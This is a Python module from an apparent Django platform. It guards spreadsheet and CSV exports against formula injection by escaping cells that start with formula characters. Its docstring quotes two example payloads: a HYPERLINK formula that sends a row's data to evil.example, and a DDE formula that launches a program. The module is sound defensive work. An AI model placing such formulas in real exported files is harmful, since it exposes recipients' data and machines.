"""Cells of every spreadsheet and CSV file the platform writes (P&R para 32: a file handed to a
State or the secretariat must not act when opened).

Names, descriptions and user agents are written by other people. A cell that starts with `=`,
`+`, `-` or `@` (or a tab or carriage return before one) is run by Excel and LibreOffice as a
formula: `=HYPERLINK("https://evil.example/?d="&B2,"Click")` sends the row to another site,
`=cmd|' /C calc'!A0` asks to start a program. `cell` writes such text with a leading apostrophe,
the spreadsheets' own mark for "text, not formula"; numbers and dates stay what they are. Every
writer passes its values through `cell` (or `row`): `tests/web/test_spreadsheets.py` fails on a
module that writes a CSV or a workbook without it, and on any export whose file holds a formula.
"""

from __future__ import annotations

from collections.abc import Iterable
from typing import Any

from django.utils.functional import Promise

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def cell(value: Any) -> Any:
    """The value as a spreadsheet or CSV cell: text that could run as a formula is kept as
    text (a leading apostrophe); anything else (numbers, dates, None) is returned unchanged."""
    if isinstance(value, Promise):
        value = str(value)
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


def row(values: Iterable[Any]) -> list[Any]:
    """Every value of one row through `cell`."""
    return [cell(value) for value in values]
